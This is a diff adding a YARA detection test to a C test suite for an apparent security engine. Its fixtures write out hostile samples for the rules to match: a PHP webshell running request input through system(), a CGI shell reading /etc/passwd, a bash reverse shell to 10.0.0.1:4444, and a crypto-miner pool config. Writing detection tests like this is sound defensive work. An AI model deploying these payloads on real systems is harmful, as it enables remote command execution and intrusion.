@@ -6,6 +6,7 @@
 #include <unistd.h>
 
 #include "engine/engine.h"
+#include "engine/yara_scan.h"
 
 struct got {
     int n;
@@ -361,5 +362,75 @@ static void test_ioc(void)
     engine_free(e);
 }
 
+static void on_yara(void *ctx, const struct yara_match *m)
+{
+    struct got *g = ctx;
+    g->n++;
+    snprintf(g->rule, sizeof(g->rule), "%s", m->rule);
+    struct event *a = yara_alert_event(m, "/tmp/x", NULL);
+    CHECK(a != NULL);
+    if (a) {
+        CHECK_EQ_STR(event_get_str(a, FLD_RULE_SOURCE), "yara");
+        event_free(a);
+    }
+}
+
+static void write_file(const char *path, const char *text)
+{
+    FILE *f = fopen(path, "w");
+    CHECK(f != NULL);
+    if (f) {
+        fputs(text, f);
+        fclose(f);
+    }
+}
+
+static void test_yara(void)
+{
+    char dir[] = "/tmp/vigil-yara-test.XXXXXX";
+    CHECK(mkdtemp(dir) != NULL);
+    struct got g = {0};
+    struct yara_set *ys = NULL;
+    struct vg_error err = {{0}};
+    int n = yara_set_load(VIGIL_SOURCE_DIR "/rules/yara", on_report, &g, &ys, &err);
+    CHECK(n >= 3);
+    CHECK_EQ_INT(g.reports, 0);
+    CHECK(ys != NULL);
+    char path[256];
+    struct { const char *name, *text, *rule; } cases[] = {
+        {"shell.php", "<?php if(isset($_GET['c'])) { system($_GET['c']); } ?>", "vigil_php_webshell"},
+        {"shell.cgi", "#!/bin/sh\necho \"Content-Type: text/plain\"; echo\nsh -c \"id; uname -a; cat /etc/passwd\"\n",
+         "vigil_cgi_shell_webshell"},
+        {"x.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "vigil_reverse_shell_script"},
+        {"m.json", "{\"url\": \"stratum+tcp://pool:3333\", \"algo\": \"randomx\"}", "vigil_miner_binary"},
+        {"ok.txt", "hello world, nothing to see", ""},
+    };
+    for (size_t i = 0; ys && i < sizeof(cases) / sizeof(cases[0]); i++) {
+        snprintf(path, sizeof(path), "%s/%s", dir, cases[i].name);
+        write_file(path, cases[i].text);
+        memset(&g, 0, sizeof(g));
+        int m = yara_set_scan_file(ys, path, 1 << 20, on_yara, &g, &err);
+        CHECK_EQ_INT(m, cases[i].rule[0] ? 1 : 0);
+        if (cases[i].rule[0])
+            CHECK_EQ_STR(g.rule, cases[i].rule);
+    }
+    yara_set_free(ys);
+    /* a broken rule file is reported, the good one still loads */
+    snprintf(path, sizeof(path), "%s/bad.yar", dir);
+    write_file(path, "rule broken { strings: $a = \"x\" condition: $b }");
+    snprintf(path, sizeof(path), "%s/good.yar", dir);
+    write_file(path, "rule good { strings: $a = \"nothing\" condition: $a }");
+    memset(&g, 0, sizeof(g));
+    ys = NULL;
+    CHECK_EQ_INT(yara_set_load(dir, on_report, &g, &ys, &err), 1);
+    CHECK_EQ_INT(g.reports, 1);
+    CHECK(strstr(g.report, "line 1") != NULL);
+    yara_set_free(ys);
+    char cmd[128];
+    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
+    CHECK_EQ_INT(system(cmd), 0);
+}
+
 TEST_MAIN(TEST(test_modifiers), TEST(test_cidr), TEST(test_conditions), TEST(test_native),
-          TEST(test_sigma_dev), TEST(test_project_rules), TEST(test_ioc))
+          TEST(test_sigma_dev), TEST(test_project_rules), TEST(test_ioc),
+          TEST(test_yara))
